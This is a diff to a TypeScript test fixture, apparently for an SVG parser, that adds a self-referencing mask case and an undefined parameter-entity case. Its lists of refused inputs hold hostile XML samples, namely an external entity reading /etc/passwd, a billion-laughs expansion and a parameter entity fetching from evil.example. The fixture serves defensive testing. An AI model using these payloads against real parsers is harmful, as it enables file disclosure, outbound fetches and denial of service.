@@ -85,6 +85,9 @@ export const costlySvgs: Readonly<Record<string, string>> = {
         `<mask id="m${at + 1}">${`<rect width="1" height="1" mask="url(#m${at})"/>`.repeat(10)}</mask>`,
     ).join(''),
   ),
+  'a mask that uses what it masks': around(
+    '<mask id="m"><use href="#x"/></mask><g id="x"><path d="M0 0" mask="url(#m)"/></g>',
+  ),
   'a group that is its own mask': around('<g id="g"><path d="M0 0" mask="url(#g)"/></g>'),
 };
 
@@ -93,6 +96,7 @@ export const refusedSvgs: Readonly<Record<string, string>> = {
   'an entity of its own': `<!DOCTYPE svg [<!ENTITY a "x">]>${around('<title>&a;</title>')}`,
   'an entity that is a file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${around('&a;')}`,
   'a billion laughs of entities': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${around('&b;')}`,
+  'an inner part without a definition': `<!DOCTYPE svg [ %a; ]>${around('')}`,
   'a parameter entity': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example"> %a;]>${around('')}`,
   'an entity nobody knows': around('<title>&nbsp;</title>'),
   'a page with a drawing in it': `<html><body>${around('')}</body></html>`,
